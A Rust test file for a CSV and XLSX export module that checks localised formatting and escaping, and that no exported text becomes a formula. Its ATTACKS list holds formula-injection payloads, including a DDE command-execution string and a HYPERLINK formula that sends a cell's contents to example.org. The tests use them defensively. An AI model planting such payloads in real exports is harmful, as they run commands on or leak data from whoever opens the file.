//! What is drawn, byte by byte and cell by cell, and what must never be run by whoever opens it.

use super::*;
use calamine::{Data, DataType, Reader, Xlsx, open_workbook_from_rs};
use quitus_domain::values::{Cents, Position, Ratio};
use std::io::Cursor;

const LANGUAGES: [Language; 2] = [Language::French, Language::English];

/// Texts that some spreadsheet runs.
const ATTACKS: [&str; 12] = [
    "=1+1",
    "+33 1 00 00 00 00",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u{a0}=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://example.org/?\"&A1;\"Bilan\")",
    "\u{ff1d}1+1",
];

fn day(text: &str) -> Day {
    text.parse().unwrap()
}

fn sheet(name: &str, head: &[(&str, Side)], rows: Vec<Vec<Cell>>) -> Sheet {
    Sheet { name: name.to_owned(), head: head.iter().map(|(name, side)| Heading::named(*name, *side)).collect(), rows }
}

fn report(sheets: Vec<Sheet>) -> Report {
    Report {
        book: "0b5a1d3e-6a0e-4c55-9a55-3f3f6d1c2b10".parse().unwrap(),
        title: "Parts & dates, 31/12/2019".to_owned(),
        day: day("2019-12-31"),
        stamp: vec![("Situation au".into(), day("2019-12-31").into()), ("Connues".into(), Cell::Number(80))],
        sheets,
    }
}

/// Two tables with every kind of cell.
fn sample() -> Report {
    let first = [("N°", Side::Right), ("Nom", Side::Left), ("Parts", Side::Right), ("Montant", Side::Right)];
    let second = [("Nom", Side::Left), ("Le", Side::Left), ("Part", Side::Right), ("Écritures", Side::Left)];
    let amount = Cents::of(-123_456);
    report(vec![
        sheet(
            "Associés",
            &first,
            vec![
                vec![1.into(), "Artenréel".into(), Cell::Count(1_250), amount.into()],
                vec![2.into(), "A; \"B\", C".into(), Cell::Empty, Cents::of(7).into()],
            ],
        ),
        sheet(
            "Partis",
            &second,
            vec![
                vec!["Νίκος 张伟 محمد".into(), day("2019-12-31").into(), Ratio::of(1, 4).into(), Cell::Empty],
                vec!["O’Brien".into(), Cell::Empty, Ratio::of(1, 3).into(), [Position(5), Position(13)][..].into()],
            ],
        ),
    ])
}

#[test]
fn a_french_spreadsheet_finds_its_own_csv() {
    let wanted = "\u{feff}Tableau;N°;Nom;Parts;Montant;Le;Part;Écritures;Situation au;Connues\r\n\
                  Associés;1;Artenréel;1250;-1234,56;;;;31/12/2019;80\r\n\
                  Associés;2;\"A; \"\"B\"\", C\";;0,07;;;;31/12/2019;80\r\n\
                  Partis;;Νίκος 张伟 محمد;;;31/12/2019;25%;;31/12/2019;80\r\n\
                  Partis;;O’Brien;;;;'1/3;\"6, 14\";31/12/2019;80\r\n";
    assert_eq!(csv(&sample(), Language::French).as_bytes(), wanted.as_bytes());
}

#[test]
fn an_english_one_too() {
    let wanted = "\u{feff}Table,N°,Nom,Parts,Montant,Le,Part,Écritures,Situation au,Connues\r\n\
                  Associés,1,Artenréel,1250,-1234.56,,,,2019-12-31,80\r\n\
                  Associés,2,\"A; \"\"B\"\", C\",,0.07,,,,2019-12-31,80\r\n\
                  Partis,,Νίκος 张伟 محمد,,,2019-12-31,25%,,2019-12-31,80\r\n\
                  Partis,,O’Brien,,,,'1/3,\"6, 14\",2019-12-31,80\r\n";
    assert_eq!(csv(&sample(), Language::English).as_bytes(), wanted.as_bytes());
}

#[test]
fn one_table_has_no_column_for_its_name_and_dates_only_where_it_was_asked() {
    let table = || sheet("Noms", &[("Nom", Side::Left)], vec![vec!["Antigone".into()]]);
    let dated = csv(&report(vec![table()]), Language::French);
    assert_eq!(dated, "\u{feff}Nom;Situation au;Connues\r\nAntigone;31/12/2019;80\r\n");
    let plain = Report { stamp: Vec::new(), ..report(vec![table()]) };
    assert_eq!(csv(&plain, Language::French), "\u{feff}Nom\r\nAntigone\r\n");
}

/// The first field of the second line, by a reader of RFC 4180 that knows nothing else.
fn first_field(csv: &str) -> String {
    let line = &csv[csv.find("\r\n").unwrap() + 2..];
    let Some(quoted) = line.strip_prefix('"') else { return line[..line.find([';', ',']).unwrap()].to_owned() };
    let end = quoted.replace("\"\"", "\u{0}\u{0}").find('"').unwrap();
    quoted[..end].replace("\"\"", "\"")
}

#[test]
fn no_text_is_a_formula_in_csv() {
    for language in LANGUAGES {
        for attack in ATTACKS {
            let table = sheet("Noms", &[("Nom", Side::Left)], vec![vec![attack.into()]]);
            assert_eq!(first_field(&csv(&report(vec![table]), language)), format!("'{attack}"), "{language:?}");
        }
        for name in ["O’Brien", "a=b", "1-2", "Société + Cie", "Ñandú", "éé"] {
            let table = sheet("Noms", &[("Nom", Side::Left)], vec![vec![name.into()]]);
            assert_eq!(first_field(&csv(&report(vec![table]), language)), name, "{language:?}");
        }
    }
    let head = sheet("Noms", &[("=1+1", Side::Left)], Vec::new());
    assert!(csv(&report(vec![head]), Language::French).starts_with("\u{feff}'=1+1;"));
}

fn read(bytes: Vec<u8>) -> Xlsx<Cursor<Vec<u8>>> {
    open_workbook_from_rs(Cursor::new(bytes)).unwrap()
}

#[test]
fn a_spreadsheet_holds_texts_numbers_and_days() {
    for language in LANGUAGES {
        let mut book = read(xlsx(&sample(), language).unwrap());
        assert_eq!(book.sheet_names(), ["Associés", "Partis"]);
        let first = book.worksheet_range("Associés").unwrap();
        let rows: Vec<_> = first.rows().collect();
        let head = ["N°", "Nom", "Parts", "Montant"].map(|name| Data::String(name.to_owned()));
        assert_eq!(rows[0], head);
        let text = Data::String("Artenréel".to_owned());
        assert_eq!(rows[1], [Data::Float(1.0), text, Data::Float(1250.0), Data::Float(-1234.56)]);
        assert_eq!(rows[2][1], Data::String("A; \"B\", C".to_owned()));
        assert_eq!((&rows[2][2], &rows[2][3]), (&Data::Empty, &Data::Float(0.07)));
        let second = book.worksheet_range("Partis").unwrap();
        let rows: Vec<_> = second.rows().collect();
        assert_eq!(rows[1][0], Data::String("Νίκος 张伟 محمد".to_owned()));
        assert!(rows[1][1].is_datetime(), "{:?}", rows[1][1]);
        assert_eq!(rows[1][1].get_datetime().unwrap().to_ymd_hms_milli(), (2019, 12, 31, 0, 0, 0, 0));
        assert_eq!(rows[2][3], Data::String("6, 14".to_owned()));
    }
}

#[test]
fn no_text_is_a_formula_in_a_spreadsheet() {
    let rows: Vec<Vec<Cell>> = ATTACKS.iter().map(|attack| vec![(*attack).into()]).collect();
    let table = sheet("Noms", &[("=1+1", Side::Left)], rows);
    let mut book = read(xlsx(&report(vec![table]), Language::French).unwrap());
    assert_eq!(book.worksheet_formula("Noms").unwrap().used_cells().count(), 0);
    let range = book.worksheet_range("Noms").unwrap();
    let read: Vec<_> = range.rows().map(|row| row[0].get_string().unwrap()).collect();
    let written: Vec<_> = std::iter::once("=1+1").chain(ATTACKS).collect();
    assert_eq!(read, written);
}

#[test]
fn the_same_question_gives_the_same_bytes() {
    let drawn = || xlsx(&sample(), Language::French).unwrap();
    let first = drawn();
    // The clock of a zip file has steps of two seconds.
    std::thread::sleep(std::time::Duration::from_millis(2_100));
    assert_eq!(first, drawn());
    let later = Report { day: day("2020-12-31"), ..sample() };
    assert_ne!(first, xlsx(&later, Language::French).unwrap());
}

#[test]
fn what_a_spreadsheet_cannot_hold_is_cut_or_told() {
    let old = vec![day("1867-07-24").into(), "é".repeat(40_000).as_str().into()];
    let table = sheet("Noms", &[("Le", Side::Left), ("Nom", Side::Left)], vec![old]);
    let mut book = read(xlsx(&report(vec![table]), Language::French).unwrap());
    let range = book.worksheet_range("Noms").unwrap();
    let row = range.rows().nth(1).unwrap();
    assert_eq!(row[0], Data::String("24/07/1867".to_owned()));
    assert_eq!(row[1].get_string().unwrap().chars().count(), 32_767);
    let endless = (0..1_048_576).map(|_| Vec::new()).chain([vec![1.into()]]).collect();
    let table = sheet("Noms", &[("N°", Side::Right)], endless);
    assert!(xlsx(&report(vec![table]), Language::French).is_err());
}

#[test]
fn every_tab_has_a_name_that_tabs_may_have() {
    use crate::locales::cli as say;
    for language in LANGUAGES {
        let names = [
            say::sheet_associates(language),
            say::sheet_leavers(language),
            say::sheet_movements(language),
            say::sheet_capital(language),
            say::sheet_waiting(language),
            say::sheet_entries(language),
        ];
        for name in names {
            let table = sheet(&name, &[("N°", Side::Right)], Vec::new());
            assert_eq!(read(xlsx(&report(vec![table]), language).unwrap()).sheet_names(), [name]);
        }
    }
}
